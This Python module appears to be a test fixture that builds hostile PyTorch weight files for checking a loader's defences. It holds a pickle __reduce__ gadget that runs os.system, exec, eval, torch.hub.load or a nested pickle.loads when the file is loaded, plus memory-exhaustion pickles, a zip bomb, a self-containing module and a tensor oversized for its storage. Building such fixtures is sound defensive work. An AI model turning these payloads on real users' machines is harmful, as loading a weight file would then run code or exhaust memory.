"""Hostile weight files: run code (which creates `marker`), exhaust memory, or break a careless reader."""

import io
import os
import pickle
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch
from torch import nn


class Call:
    """Unpickles to a call of `function` with `arguments`."""

    def __init__(self, function: Callable[..., object], *arguments: object) -> None:
        self.function = function
        self.arguments = arguments

    def __reduce__(self) -> tuple[Callable[..., object], tuple[object, ...]]:
        return self.function, self.arguments


def zipped(value: object) -> bytes:
    """Return `value` in the format of torch.save today, a zip file."""
    buffer = io.BytesIO()
    torch.save(value, buffer)
    return buffer.getvalue()


def legacy(value: object) -> bytes:
    """Return `value` in the format of torch.save until 2020."""
    buffer = io.BytesIO()
    torch.save(value, buffer, _use_new_zipfile_serialization=False)
    return buffer.getvalue()


def with_pickle(content: bytes) -> bytes:
    """Return a zip file of torch.save with `content` as its pickle."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("archive/data.pkl", content)
        archive.writestr("archive/byteorder", "little")
    return buffer.getvalue()


def swelling() -> bytes:
    """Return a pickle that allocates 2 ** 60 bytes."""
    return with_pickle(b"\x80\x05\x96" + struct.pack("<Q", 1 << 60) + b".")


def memo() -> bytes:
    """Return a pickle of a few bytes whose memo needs tens of gigabytes."""
    return with_pickle(b"\x80\x02Nr" + struct.pack("<I", (1 << 32) - 2) + b".")


def bomb() -> bytes:
    """Return a zip file of a hundred kilobytes that unpacks to a hundred megabytes."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("archive/data.pkl", "w") as member:
        for _ in range(100):
            member.write(bytes(1 << 20))
    return buffer.getvalue()


def ring() -> bytes:
    """Return a module that contains itself."""
    module = nn.Module()
    module._modules["again"] = module
    return zipped(module)


def claims_more() -> bytes:
    """Return weights whose tensor is larger than its storage."""
    whole = {"weight": torch.zeros(4)}
    content = zipped(whole)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        pickled = next(archive.read(name) for name in archive.namelist() if name.endswith("data.pkl"))
        numbers = next(archive.read(name) for name in archive.namelist() if name.endswith("data/0"))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("archive/data.pkl", pickled.replace(b"K\x04\x85", b"K\x40\x85"))
        archive.writestr("archive/data/0", numbers)
    return buffer.getvalue()


def calls(marker: Path) -> dict[str, Any]:
    """Return values whose pickles run code, by the name of the called function."""
    touch = f"open({str(marker)!r}, 'w').close()"
    return {
        "posix.system": Call(os.system, f"touch {marker}"),
        "__builtin__.exec": Call(exec, touch),
        "__builtin__.eval": {"weight": Call(eval, f"__import__('os').system('touch {marker}')")},
        "__builtin__.getattr": Call(getattr, [], "append"),
        "torch.hub.load": Call(torch.hub.load, "owner/repository", "model"),
        "a pickle within": Call(pickle.loads, pickle.dumps(Call(exec, touch))),
    }
